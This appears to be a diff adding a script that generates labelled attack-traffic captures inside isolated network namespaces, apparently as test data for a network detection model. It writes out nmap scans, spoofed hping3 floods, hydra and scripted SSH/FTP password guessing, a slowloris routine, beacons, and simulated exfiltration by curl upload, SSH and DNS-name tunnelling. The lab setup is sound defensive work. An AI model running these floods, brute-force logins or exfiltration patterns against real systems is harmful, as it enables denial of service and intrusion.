@@ -1,0 +1,402 @@
+#!/usr/bin/env python3
+"""Makes the captures of tests/data/traffic: real tools between network namespaces, recorded by tcpdump.
+
+  scripts/traffic.py FOLDER              all of them, one after the other (a quarter of an hour)
+  scripts/traffic.py FOLDER NAME...      only these
+  scripts/traffic.py --list              what there is
+
+Needs root, and the packages iproute2 tcpdump nmap hping3 hydra openssh-server sshpass vsftpd dnsmasq-base curl.
+Nothing leaves the machine: six hosts hang on a bridge in namespaces of their own, without a way out. What a host does is told by its
+address, which is how the records are labelled (models/flow/captures.yml):
+
+  10.77.0.10 10.77.0.11   servers: sshd, vsftpd, web, names; .11 drops what it does not serve
+  10.77.0.21 10.77.0.22   clients that do ordinary things all the while
+  10.77.0.66              does what the capture is called after
+  10.77.0.99              the far end of beacons and of what is carried out
+
+Each capture runs for two minutes or less and is cut to the first bytes of each packet; sizes and times differ from run to run, what
+happens does not. office.ndjson.gz is not of this script: `oversight simulate --seed 11 --hours 13`, its uids numbered and what a
+sensor adds left out.
+"""
+
+import gzip
+import os
+import random
+import shutil
+import signal
+import struct
+import subprocess
+import sys
+import tempfile
+import time
+import zlib
+
+HOSTS = {"web": 10, "shy": 11, "anna": 21, "ben": 22, "mallory": 66, "far": 99}
+LAN = "ovlan"
+PASSWORDS = ["123456", "letmein", "qwerty", "admin", "root", "toor", "dragon", "monkey", "summer24", "hunter2"]
+
+
+def run(command, check=True, **more):
+    return subprocess.run(command, shell=True, check=check, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, **more)
+
+
+def inside(host, command, check=False, **more):
+    return run(f"ip netns exec ov{host} {command}", check=check, **more)
+
+
+def start(host, command):
+    return subprocess.Popen(f"exec ip netns exec ov{host} {command}", shell=True, stdin=subprocess.DEVNULL,
+                            stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, preexec_fn=os.setsid)
+
+
+def stop(processes):
+    for process in processes:
+        try:
+            os.killpg(process.pid, signal.SIGTERM)
+        except ProcessLookupError:
+            pass
+    for process in processes:
+        process.wait()
+
+
+def address(host):
+    return f"10.77.0.{HOSTS[host]}"
+
+
+class Network:
+    """The hosts and what they serve."""
+
+    def __enter__(self):
+        self.folder = tempfile.mkdtemp(prefix="ov-traffic-")
+        self.close_namespaces()
+        run(f"ip netns add {LAN}")
+        run(f"ip -n {LAN} link add br0 type bridge")
+        run(f"ip -n {LAN} link set br0 up")
+        for host, last in HOSTS.items():
+            run(f"ip netns add ov{host}")
+            run(f"ip link add eth0 netns ov{host} type veth peer name v{last} netns {LAN}")
+            run(f"ip -n {LAN} link set v{last} master br0 up")
+            run(f"ip -n ov{host} addr add {address(host)}/24 dev eth0")
+            run(f"ip -n ov{host} link set eth0 up")
+            run(f"ip -n ov{host} link set lo up")
+        self.serve()
+        time.sleep(2)
+        return self
+
+    def serve(self):
+        d = self.folder
+        os.makedirs(f"{d}/www")
+        for number in range(40):
+            with open(f"{d}/www/{number}.html", "wb") as page:
+                page.write(b"<p>page</p>" * random.Random(number).randint(5, 9000))
+        run(f"ssh-keygen -q -t ed25519 -N '' -f {d}/host")
+        run(f"ssh-keygen -q -t ed25519 -N '' -f {d}/key")
+        os.makedirs("/run/sshd", exist_ok=True)
+        sshd = (f"/usr/sbin/sshd -D -e -f /dev/null -h {d}/host -o AuthorizedKeysFile={d}/key.pub -o StrictModes=no "
+                f"-o PidFile=none -o PermitRootLogin=yes -o MaxStartups=200 -o UsePAM=no -o PasswordAuthentication=yes")
+        os.makedirs(f"{d}/ftp/up", exist_ok=True)
+        os.chmod(f"{d}/ftp/up", 0o777)
+        shutil.copy(f"{d}/www/7.html", f"{d}/ftp/seven")
+        with open(f"{d}/vsftpd.conf", "w") as conf:
+            conf.write(f"listen=YES\nlocal_enable=YES\nanonymous_enable=YES\nwrite_enable=YES\nanon_root={d}/ftp\n"
+                       "anon_upload_enable=YES\nno_anon_password=YES\nseccomp_sandbox=NO\nbackground=NO\nmax_login_fails=3\n")
+        os.makedirs("/var/run/vsftpd/empty", exist_ok=True)
+        os.chmod(d, 0o755)
+        self.servers = [start(host, command) for host in ("web", "shy") for command in (
+            sshd, f"vsftpd {d}/vsftpd.conf", f"python3 -m http.server 80 --directory {d}/www --protocol HTTP/1.1",
+            "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.10 --pid-file")]
+        receiver = ("python3 -c \"import http.server as s\nclass H(s.BaseHTTPRequestHandler):\n protocol_version='HTTP/1.1'\n"
+                    " def do_POST(self):\n  n=int(self.headers.get('content-length',0))\n  while n>0: n-=len(self.rfile.read(min(n,65536)))\n"
+                    "  self.send_response(200); self.send_header('content-length','2'); self.end_headers(); self.wfile.write(b'ok')\n"
+                    " do_PUT=do_POST\n def do_GET(self): self.do_POST()\n"
+                    "s.ThreadingHTTPServer(('',443),H).serve_forever()\"")
+        irc = ("python3 -c \"import socketserver as s\nclass H(s.BaseRequestHandler):\n def handle(self):\n"
+               "  d=self.request.recv(400); self.request.sendall(b'!ping '+b'x'*180); self.request.recv(400)\n"
+               "class T(s.ThreadingTCPServer): allow_reuse_address=True\nT(('',6667),H).serve_forever()\"")
+        self.servers += [start("far", receiver), start("far", irc), start("far", sshd),
+                         start("far", "dnsmasq -k -h -R -C /dev/null --address=/#/10.77.0.99 --pid-file")]
+        inside("shy", "iptables -A INPUT -p tcp -m multiport ! --dports 21,22,80 --syn -j DROP")
+
+    def __exit__(self, *_):
+        stop(self.servers)
+        self.close_namespaces()
+        shutil.rmtree(self.folder)
+
+    def close_namespaces(self):
+        for name in [LAN] + [f"ov{host}" for host in HOSTS]:
+            run(f"ip netns del {name}", check=False)
+
+
+def ordinary(network, host, seconds, seed):
+    """Pages with pauses, names looked up, a login with a key, a transfer: in a process of its own."""
+    chance, d = random.Random(seed), network.folder
+    ssh = f"ssh -i {d}/key -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o BatchMode=yes root@"
+    until = time.time() + seconds
+    while time.time() < until:
+        server = chance.choice(["web", "shy"])
+        what = chance.random()
+        if what < 0.6:
+            names = " ".join(f"http://{address(server)}/{chance.randint(0, 42)}.html" for _ in range(chance.randint(1, 4)))
+            inside(host, f"curl -s -m 10 {names}")
+        elif what < 0.85:
+            inside(host, f"python3 {__file__} --ask {address('web')} {chance.choice(['www', 'mail', 'cdn', 'api'])}.example.org")
+        elif what < 0.9:
+            inside(host, f"{ssh}{address(server)} uptime")
+        elif what < 0.94:
+            inside(host, f"curl -s -m 10 ftp://{address(server)}/seven")
+        elif what < 0.97:
+            inside(host, f"ping -c {chance.randint(1, 4)} -i 0.3 {address(server)}")
+        else:
+            inside(host, f"curl -s -m 2 http://{address(server)}:{chance.choice([8080, 3000])}/")
+        time.sleep(chance.expovariate(1.0))
+
+
+def ask(server, name):
+    """One question for a name, by UDP."""
+    import socket
+    question = struct.pack(">HHHHHH", random.randint(0, 65535), 0x100, 1, 0, 0, 0)
+    question += b"".join(bytes([len(part)]) + part.encode() for part in name.split(".")) + b"\0" + struct.pack(">HH", 1, 1)
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as wire:
+        wire.settimeout(2)
+        wire.sendto(question, (server, 53))
+        try:
+            wire.recv(4096)
+        except TimeoutError:
+            pass
+
+
+def guess_ssh(server, pause, count, tries):
+    for number in range(count):
+        run(f"sshpass -p {PASSWORDS[number % len(PASSWORDS)]}{number} ssh -o StrictHostKeyChecking=no "
+            f"-o UserKnownHostsFile=/dev/null -o PubkeyAuthentication=no -o NumberOfPasswordPrompts={tries} root@{server} true", check=False)
+        time.sleep(pause * random.uniform(0.7, 1.3))
+
+
+def guess_ftp(server, pause, count):
+    import ftplib
+    for number in range(count):
+        try:
+            with ftplib.FTP(server, timeout=15) as ftp:
+                for attempt in range(1 + number % 2):
+                    try:
+                        ftp.login("admin", PASSWORDS[(number + attempt) % len(PASSWORDS)])
+                    except ftplib.error_perm:
+                        pass
+        except (OSError, EOFError, ftplib.Error):
+            pass
+        time.sleep(pause)
+
+
+def many(count, what, *arguments):
+    """The same so many times at once."""
+    children = []
+    for _ in range(count):
+        child = os.fork()
+        if child == 0:
+            globals()[what](*arguments)
+            os._exit(0)
+        children.append(child)
+    for child in children:
+        os.waitpid(child, 0)
+
+
+def beacon(server, port, pause, jitter, seconds, size):
+    """A connection after about each pause, with the same question and the same answer."""
+    import socket
+    until = time.time() + seconds
+    while time.time() < until:
+        try:
+            with socket.create_connection((server, port), timeout=3) as wire:
+                wire.sendall(b"NICK bot\r\nUSER x x x x\r\n".ljust(size, b"."))
+                wire.recv(400)
+        except OSError:
+            pass
+        time.sleep(pause * random.uniform(1 - jitter, 1 + jitter))
+
+
+def silent(server, seconds):
+    """Calls to several hosts and ports where nobody answers, each as long as the kernel tries."""
+    import socket
+    import threading
+    until = time.time() + seconds
+
+    def call(port, pause):
+        while time.time() < until:
+            try:
+                with socket.create_connection((server, port), timeout=min(20, max(1, until - time.time()))):
+                    pass
+            except OSError:
+                pass
+            time.sleep(pause)
+
+    threads = [threading.Thread(target=call, args=pair) for pair in ((6667, 3), (4444, 8), (1337, 15), (48101, 1))]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+
+
+def scan_connect(server, first, last, pause):
+    import socket
+    for port in range(first, last):
+        with socket.socket() as wire:
+            wire.settimeout(0.2)
+            wire.connect_ex((server, port))
+        time.sleep(pause)
+
+
+def hold_open(server, count, seconds):
+    """Slow headers on many connections, as slowloris does."""
+    import socket
+    wires = []
+    until = time.time() + seconds
+    while time.time() < until:
+        while len(wires) < count:
+            try:
+                wire = socket.create_connection((server, 80), timeout=2)
+                wire.sendall(b"GET /?1 HTTP/1.1\r\nHost: x\r\nUser-Agent: y\r\n")
+                wires.append(wire)
+            except OSError:
+                break
+        for wire in list(wires):
+            try:
+                wire.sendall(b"X-a: b\r\n")
+            except OSError:
+                wires.remove(wire)
+        time.sleep(1)
+
+
+def carry_by_names(server, count):
+    chance = random.Random(count)
+    for number in range(count):
+        part = "".join(chance.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(chance.randint(40, 60)))
+        ask(server, f"{part}.{part[::-1]}.t{number % 7}.carry.example.net")
+        time.sleep(0.03)
+
+
+def mine(what, *arguments):
+    return f"python3 {os.path.abspath(__file__)} --do {what} " + " ".join(map(str, arguments))
+
+
+W, S, F, LANS = address("web"), address("shy"), address("far"), "10.77.0.0/24"
+LIST = "/tmp/ov-passwords"
+CAPTURES = {
+    # name: seconds at most, commands of the one host, one after the other
+    "scan-syn": (40, [f"nmap -n -Pn -sS -p1-1000 {W}"]),
+    "scan-connect": (40, [f"nmap -n -Pn -sT --top-ports 600 {W}"]),
+    "scan-dropped": (45, [f"nmap -n -Pn -sS -T4 --max-retries 1 -p1-800 {S}"]),
+    "scan-udp": (45, [f"nmap -n -Pn -sU -T4 --max-retries 1 --top-ports 150 {W}"]),
+    "scan-sweep": (45, [f"nmap -n -sn {LANS}", f"nmap -n -Pn -sS -T4 --max-retries 1 -p22,445,3389 {LANS}"]),
+    "scan-versions": (60, [f"nmap -n -Pn -sV --version-light -p21,22,53,80,443,445,8080 {W} {S}", f"nmap -n -Pn -sC -p21,22,80 {W}"]),
+    "scan-flags": (40, [f"nmap -n -Pn -sF -T4 -p1-300 {W}", f"nmap -n -Pn -sX -T4 -p1-300 {W}", f"nmap -n -Pn -sA -T4 -p1-300 {S}"]),
+    "scan-slow": (58, [f"nmap -n -Pn -sS --scan-delay 400ms --max-retries 0 -p1-130 {W}"]),
+    "scan-script": (40, [mine("scan_connect", W, 1, 400, 0.02)]),
+    "flood-syn": (20, [f"hping3 -S -p 80 -i u200 -c 4000 {W}"]),
+    "flood-syn-closed": (20, [f"hping3 -S -p 8081 -i u150 -c 4000 {W}"]),
+    "flood-syn-many": (20, [f"hping3 -S -p 80 --rand-source -i u300 -c 4000 {W}"]),
+    "flood-syn-dropped": (20, [f"hping3 -S -p 8443 -i u200 -c 4000 {S}"]),
+    "flood-udp": (20, [f"hping3 --udp -p 53 -d 120 -i u300 -c 3000 {S}", f"hping3 --udp -p 5000 -d 60 -i u300 -c 2000 {W}"]),
+    "flood-udp-closed": (20, [f"hping3 --udp -p 33000 -d 500 -i u300 -c 3000 {W}"]),
+    "flood-udp-many": (20, [f"hping3 --udp -p 53 -d 40 --rand-source -i u400 -c 3000 {W}"]),
+    "flood-udp-ports": (20, [f"hping3 --udp -p ++1000 -d 1000 -i u300 -c 3000 {S}"]),
+    "flood-icmp": (20, [f"hping3 --icmp -d 600 -i u400 -c 3000 {W}", f"hping3 --icmp --rand-source -i u400 -c 2000 {W}"]),
+    "flood-ack": (20, [f"hping3 -A -p 80 -i u300 -c 3000 {W}", f"hping3 -R -p 22 -i u500 -c 1500 {W}"]),
+    "flood-slow": (40, [mine("hold_open", W, 200, 35)]),
+    "guess-ssh-hydra": (55, [f"hydra -I -t 4 -l root -P {LIST} ssh://{W}"]),
+    "guess-ssh-hydra-wide": (50, [f"hydra -I -t 16 -l admin -P {LIST} ssh://{S}"]),
+    "guess-ssh-script": (58, [mine("guess_ssh", W, 0.3, 60, 1)]),
+    "guess-ssh-slow": (60, [mine("guess_ssh", S, 3, 30, 2)]),
+    "guess-ftp-hydra": (50, [f"hydra -I -t 8 -l admin -P {LIST} ftp://{W}"]),
+    "guess-ftp-script": (60, [mine("guess_ftp", W, 0.2, 60)]),
+    "guess-ssh-wide": (100, [mine("many", 8, "guess_ssh", W, 0.1, 60, 1)]),
+    "guess-ssh-rounds": (100, [mine("many", 5, "guess_ssh", S, 0.5, 60, 3)]),
+    "guess-ftp-wide": (80, [mine("many", 12, "guess_ftp", S, 0.1, 60)]),
+    "guess-ftp-slow": (100, [mine("many", 2, "guess_ftp", W, 1.5, 60)]),
+    "guess-ssh-hydra-long": (110, [f"hydra -I -t 6 -l oracle -P {LIST} ssh://{W}"]),
+    "beacon-fast": (60, [mine("beacon", F, 6667, 1, 0.1, 58, 75)]),
+    "beacon-slow": (118, [mine("beacon", F, 6667, 5, 0.3, 116, 140)]),
+    "beacon-dead": (100, [mine("beacon", F, 4444, 4, 0.1, 95, 60)]),
+    "beacon-unanswered": (100, [mine("beacon", S, 6668, 3, 0.2, 95, 60)]),
+    "beacon-dead-many": (110, [mine("many", 6, "beacon", S, 6667, 7, 0.2, 105, 60)]),
+    "beacon-silent": (115, [mine("silent", S, 110)]),
+    "carry-web": (40, [f"sh -c 'head -c {size}000000 /dev/zero | curl -s -m 30 -T - http://{F}:443/up'" for size in (30, 80, 150)]),
+    "carry-ssh": (40, [f"sh -c 'head -c {size}000000 /dev/zero | ssh -i KEY -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null root@{F} \"cat >/dev/null\"'" for size in (25, 60, 120)]),
+    "carry-names": (45, [mine("carry_by_names", F, 900)]),
+    "quiet": (120, []),
+    "quiet-busy": (60, [f"sh -c 'for i in $(seq 1 1500); do curl -s -m 5 http://{W}/$((i % 40)).html; done'"]),
+    "quiet-page": (60, [f"sh -c 'for i in $(seq 1 60); do for j in 1 2 3 4 5 6; do curl -s -m 5 http://{W}/$(((i + j) % 40)).html & done; wait; sleep 0.3; done'"]),
+}
+
+
+def cut(capture, most):
+    """A pcap file whose packets have at most so many bytes: what is encrypted or filled up tells nothing and does not compress."""
+    out, place = [capture[:24]], 24
+    while place + 16 <= len(capture):
+        seconds, micros, kept, length = struct.unpack("<IIII", capture[place:place + 16])
+        packet = capture[place + 16:place + 16 + kept]
+        out += [struct.pack("<IIII", seconds, micros, min(len(packet), most), length), packet[:most]]
+        place += 16 + kept
+    return b"".join(out)
+
+
+def record(network, folder, name):
+    seconds, commands = CAPTURES[name]
+    raw = os.path.join(network.folder, "raw.pcap")
+    tcpdump = subprocess.Popen(["ip", "netns", "exec", LAN, "tcpdump", "-i", "br0", "-s", "160", "-w", raw, "-U", "-B", "16384", "ip"],
+                               stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    time.sleep(1)
+    until = time.time() + seconds
+    clients = []
+    for number, host in enumerate(("anna", "ben")):
+        child = os.fork()
+        if child == 0:
+            ordinary(network, host, seconds - 2 if not commands else 600, zlib.crc32(name.encode()) + number)
+            os._exit(0)
+        clients.append(child)
+    time.sleep(2)
+    for command in commands:
+        process = start("mallory", command.replace("KEY", f"{network.folder}/key"))
+        try:
+            process.wait(timeout=max(1, until - time.time()))
+        except subprocess.TimeoutExpired:
+            stop([process])
+    if not commands:
+        time.sleep(seconds)
+    time.sleep(2)
+    for child in clients:
+        try:
+            os.kill(child, signal.SIGTERM)
+        except ProcessLookupError:
+            pass
+        os.waitpid(child, 0)
+    tcpdump.terminate()
+    tcpdump.wait()
+    with open(raw, "rb") as content, open(os.path.join(folder, f"{name}.pcap.gz"), "wb") as out:
+        with gzip.GzipFile(fileobj=out, mode="wb", mtime=0, filename="") as packed:
+            packed.write(cut(content.read(), 90 if "ssh" in name or name == "carry-web" else 110))
+    print(f"{name}: {os.path.getsize(raw):,} bytes", flush=True)
+
+
+def main():
+    arguments = sys.argv[1:]
+    if arguments[:1] == ["--list"]:
+        print("\n".join(CAPTURES))
+    elif arguments[:1] == ["--ask"]:
+        ask(*arguments[1:])
+    elif arguments[:1] == ["--do"]:
+        numbers = [float(text) if "." in text and text.count(".") == 1 else int(text) if text.isdigit() else text for text in arguments[2:]]
+        globals()[arguments[1]](*numbers)
+    elif arguments:
+        with open(LIST, "w") as passwords:
+            passwords.writelines(f"{word}{number}\n" for number in range(60) for word in PASSWORDS)
+        os.makedirs(arguments[0], exist_ok=True)
+        with Network() as network:
+            for name in arguments[1:] or CAPTURES:
+                record(network, arguments[0], name)
+        os.remove(LIST)
+    else:
+        sys.exit(__doc__)
+
+
+if __name__ == "__main__":
+    main()
